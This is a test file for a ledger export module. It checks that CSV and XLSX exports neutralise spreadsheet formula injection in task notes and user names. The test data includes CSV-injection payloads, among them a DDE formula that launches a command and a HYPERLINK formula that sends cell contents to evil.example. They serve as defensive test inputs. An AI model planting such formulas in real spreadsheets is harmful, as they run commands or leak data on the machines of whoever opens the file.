// The ledger spreadsheet is opened by the office in Excel or WPS: no cell may start a formula (OWASP
// CSV injection), whether it came from a note, a display name or an imported document.
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { ledgerCsv, ledgerRows, ledgerXlsx, safeCell } from '../../src/ledger/export.ts';
import type { LedgerEvent } from '../../src/model/records.ts';
import type { Task } from '../../src/model/task.ts';

describe('safeCell', () => {
  it.each([
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://evil.example/?leak="&A1,"点我")', '\'=HYPERLINK("http://evil.example/?leak="&A1,"点我")'],
    ['+1+cmd|x', "'+1+cmd|x"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['  =1+1', "'  =1+1"],
    ['＝1+1', "'＝1+1"],
    ['已在网站发布解读 = 完成', '已在网站发布解读 = 完成'],
    ['2022-06-30', '2022-06-30'],
    ['县民政局', '县民政局'],
    ['', ''],
  ])('%j → %j', (input, output) => {
    expect(safeCell(input)).toBe(output);
  });
});

const task: Task = {
  id: '2022-abc-1', documentId: 'd', region: '测试县', year: 2022, seq: 1, section: ['=一、公开'], title: null, number: null,
  requirement: '+做好信息公开', lead: [], responsible: ['@县民政局'], cooperating: [], remarks: null,
  deadline: { raw: '全年', due: '2022-12-31', kind: 'year-round', ongoing: false, stated: true, source: 'cell', milestones: [] },
};
const event: LedgerEvent = {
  taskId: task.id, action: 'progress', note: "=cmd|' /C calc'!A0", by: { platform: 'telegram', userId: '1', name: '=HYPERLINK("http://x","y")' }, chat: 'telegram:-1', at: '2022-06-01T00:00:00Z',
};
const rows = ledgerRows([task], new Map([[task.id, [event]]]), '2022-06-10');

/** Splits RFC 4180 CSV (every field quoted) into rows of fields. */
function parseCsv(text: string): string[][] {
  return text.replace(/^\ufeff/, '').trimEnd().split('\r\n').map((line) => [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map((m) => (m[1] ?? '').replace(/""/g, '"')));
}

describe('the exported ledger', () => {
  it('CSV: every field quoted, no field starts a formula, the text is kept after the apostrophe', () => {
    const parsed = parseCsv(new TextDecoder().decode(ledgerCsv(rows)));
    expect(parsed).toHaveLength(2);
    const cells = parsed[1]!;
    expect(cells).toHaveLength(rows[0]!.length);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain("'=cmd|' /C calc'!A0");
    expect(cells).toContain('\'=HYPERLINK("http://x","y")');
    expect(cells).toContain("'+做好信息公开");
  });

  it('XLSX: the same cells as text, none a formula', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await ledgerXlsx('测试县', rows)) as unknown as ExcelJS.Buffer);
    const row = workbook.worksheets[0]!.getRow(2);
    const values = (row.values as unknown[]).slice(1);
    for (const v of values) {
      expect(typeof v).toBe('string');
      expect(String(v)).not.toMatch(/^[=+\-@\t\r]/);
    }
    row.eachCell((cell) => expect(cell.type).toBe(ExcelJS.ValueType.String));
    expect(values).toContain("'=cmd|' /C calc'!A0");
  });
});
